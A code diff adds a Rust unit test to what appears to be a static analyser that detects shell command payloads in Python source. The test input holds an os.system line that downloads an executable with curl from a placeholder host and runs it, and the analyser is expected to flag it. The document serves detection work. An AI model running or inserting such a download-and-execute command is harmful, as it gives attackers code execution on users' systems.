@@ -237,3 +237,20 @@ fn eval_of_an_escaped_name_is_that_function() {
     // A literal expression handed to eval is not a name.
     assert!(python("x = eval(\"1 + 2\")\n").is_empty());
 }
+
+#[test]
+fn command_lines_handed_to_a_shell_are_shell_payloads() {
+    let text = "import os, subprocess\nexe = 'C:/Users/Public/helper.exe'\nos.system('cd C:/ && curl -s https://dl.example.invalid/h -o ' + exe + ' && ' + exe)\nsubprocess.run(['ls', '-l'])\nos.system('clear')\n";
+    let tree = parse(Grammar::Python, text).unwrap();
+    let resolved = evaluate_tree(tree.root_node(), text, Grammar::Python);
+    let shells: Vec<&str> = resolved
+        .renditions
+        .iter()
+        .filter(|r| r.shell)
+        .map(|r| r.code.as_str())
+        .collect();
+    assert_eq!(
+        shells,
+        ["cd C:/ && curl -s https://dl.example.invalid/h -o C:/Users/Public/helper.exe && C:/Users/Public/helper.exe\n"]
+    );
+}
